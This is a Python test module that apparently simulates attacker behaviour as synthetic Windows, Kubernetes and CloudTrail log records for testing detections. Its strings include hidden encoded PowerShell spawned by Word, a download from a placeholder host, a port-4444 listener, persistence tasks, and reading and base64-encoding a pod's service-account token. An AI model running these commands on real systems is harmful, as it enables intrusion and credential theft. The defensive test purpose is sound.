"""Behaviours that show on machines, in the cluster and in what workloads call."""

from __future__ import annotations

from base64 import b64encode
from typing import Final

from tests.simulation import catalogue
from tests.simulation.behaviours.scene import Played, Scene, names_of, played, role_key
from tests.simulation.days import MINUTE, SECOND
from tests.simulation.ordinary.cluster import CLIENT, enter, pod_of
from tests.simulation.ordinary.desks import account_of
from tests.simulation.places import CLOUD_EGRESS
from tests.simulation.records import cloudtrail, windows
from tests.simulation.records.kubernetes import FORBIDDEN, request
from tests.simulation.records.record import Record

TOKEN: Final = "/var/run/secrets/kubernetes.io/serviceaccount/token"  # noqa: S105  # where it is, not what it is
_PROBED: Final = (
    ("iam.amazonaws.com", "ListUsers", True, ""),
    ("s3.amazonaws.com", "ListBuckets", True, ""),
    ("secretsmanager.amazonaws.com", "ListSecrets", True, ""),
    ("ec2.amazonaws.com", "DescribeInstances", True, ""),
    ("iam.amazonaws.com", "ListRoles", True, ""),
    ("kms.amazonaws.com", "ListKeys", True, ""),
    ("lambda.amazonaws.com", "ListFunctions", True, ""),
    ("rds.amazonaws.com", "DescribeDBSnapshots", True, ""),
)


def rare_child_process(scene: Scene) -> Played:
    """Have a document start a shell that fetches the rest.

    The smallest sign: Word starts PowerShell once, with a short plain command; the stronger ones encode theirs.
    """
    rng, shift = scene.rng, scene.shift("finance", "people", "sales", "marketing", inside=False)
    who, (time,) = account_of(shift.person, shift.day), shift.moments(rng, 1)
    stage = bytes(rng.getrandbits(8) for _ in range(scene.by(0, 300, 1400)))
    encoded = f"-nop -w hidden -enc {b64encode(stage).decode()}"
    command = f"powershell.exe {encoded if stage else '-c iwr https://files.example/a -OutFile a.txt'}"
    records = [windows.started(rng, time, shift.laptop, who, catalogue.WORD, catalogue.POWERSHELL, command)]
    for number, tool in enumerate(("whoami", "nltest", "net1", "systeminfo")[: scene.by(0, 1, 4)]):
        image = f"{catalogue.SYSTEM32}{tool}.exe"
        later = time + (number + 1) * 20 * SECOND
        records.append(windows.started(rng, later, shift.laptop, who, catalogue.POWERSHELL, image, f"{tool}.exe"))
    return played((f"host:{shift.laptop}", names_of(shift.person)[1]), records)


def new_binary_listener(scene: Scene) -> Played:
    """Put a program that nobody else has on a laptop, and wait for calls on a port that nothing listened on.

    The smallest sign: one new program, one call that it takes.
    """
    rng, shift = scene.rng, scene.shift()
    who, (time,) = account_of(shift.person, shift.day), shift.moments(rng, 1)
    name = f"{''.join(rng.choices('bcdfgklmnprstvz', k=7))}.exe"
    image = f"C:\\Users\\{who.name}\\AppData\\Local\\{scene.by('Programs', 'Temp', 'Temp')}\\{name}"
    records = [
        windows.wrote(rng, time, shift.laptop, who, catalogue.EDGE, image),
        windows.started(rng, time + 9 * SECOND, shift.laptop, who, catalogue.EXPLORER, image, f'"{image}"', "-"),
    ]
    port = scene.by(8443, 4444, 4444)
    records.append(windows.listening(rng, time + 12 * SECOND, shift.laptop, image, port))
    for number in range(scene.by(1, 5, 30)):
        later = time + (number + 1) * scene.by(40, 5, 1) * MINUTE
        caller = f"10.16.7.{rng.randrange(2, 250)}"
        records.append(
            windows.connected(rng, later, shift.laptop, who, image, (shift.inner, caller, port), opened=False)
        )
    return played((f"host:{shift.laptop}", names_of(shift.person)[1]), records)


def persistence_burst(scene: Scene) -> Played:
    """Go from server to server with the account of an administrator, and leave something that starts again on each.

    The smallest sign: tasks made on two servers within the hour, by an account that makes one a month.
    """
    rng, shift = scene.rng, scene.shift("operations")
    who, (time,) = account_of(shift.person, shift.day), shift.moments(rng, 1)
    machines = [server for server in scene.organization.servers if server.is_windows]
    targets = rng.sample(machines, min(len(machines), scene.by(2, 6, 25)))
    records: list[Record] = []
    for target in targets:
        time += int(rng.uniform(0.3, 1.7) * scene.by(15 * MINUTE, 2 * MINUTE, 15 * SECOND))
        records.append(windows.logged_on(rng, time, target.name, who, windows.NETWORK, shift.inner))
        image = f"C:\\ProgramData\\{rng.choice(catalogue.WORDS)}\\upd.exe"
        if scene.strength == "loud":
            records.append(windows.service_installed(rng, time + SECOND, target.name, who, "UpdSync", image))
        records.append(windows.task_created(rng, time + 2 * SECOND, target.name, who, "\\Updates\\Sync", image, "-q"))
    return played((names_of(shift.person)[1], *(f"host:{target.name}" for target in targets)), records)


def container_exec(scene: Scene) -> Played:
    """Enter containers with the access of somebody who has no business in them, and read their tokens.

    The smallest sign: one shell in a container of another team.
    """
    rng, shift = scene.rng, scene.shift("engineering")
    services, (time,) = scene.organization.services, shift.moments(rng, 1)
    records, touched = [], list[str]()
    for _ in range(scene.by(1, 4, 15)):
        command = scene.by(("sh",), ("cat", TOKEN), ("sh", "-c", f"cat {TOKEN} | base64"))
        service, number = rng.choice(services), rng.randrange(2)
        touched.append(f"workload:{service.namespace}/{pod_of(service, number)}")
        records.append(enter(rng, time, shift.person.email, (service, number), shift.inner, command))
        time += int(rng.uniform(0.3, 1.7) * MINUTE)
    return played(names_of(shift.person)[:1], records, touched)


def stolen_workload_identity(scene: Scene) -> Played:
    """Use the token and the role of a pod to see what they may do: most of it they may not.

    The smallest sign: three requests that this service account never made, two calls that are refused.
    """
    rng, service = scene.rng, scene.service()
    who, spaces = service.account, sorted({other.namespace for other in scene.organization.services})
    time = scene.shift("engineering", inside=False).first + rng.randrange(300) * MINUTE
    records: list[Record] = []
    for number in range(scene.by(3, 10, 40)):
        time += int(rng.uniform(0.3, 1.7) * scene.by(5 * MINUTE, 30 * SECOND, 3 * SECOND))
        where = spaces[number % len(spaces)]
        what = ("list secrets", "create selfsubjectrulesreviews", "list clusterrolebindings", "get secrets")[number % 4]
        code = 201 if what.startswith("create") else 200 if where == service.namespace else FORBIDDEN
        records.append(request(rng, time, who, what, where, ip=service.pod_ip, agent=CLIENT, code=code))
    for number in range(scene.by(2, 8, 60)):
        time += int(rng.uniform(0.3, 1.7) * scene.by(5 * MINUTE, 20 * SECOND, SECOND))
        what_called, ip = _PROBED[number % len(_PROBED)], CLOUD_EGRESS[service.number % len(CLOUD_EGRESS)]
        records.append(cloudtrail.call(rng, time, service.role_session, what_called, ip=ip, error=cloudtrail.DENIED))
    return played((f"user:{who}", role_key(service.role_session)), records)
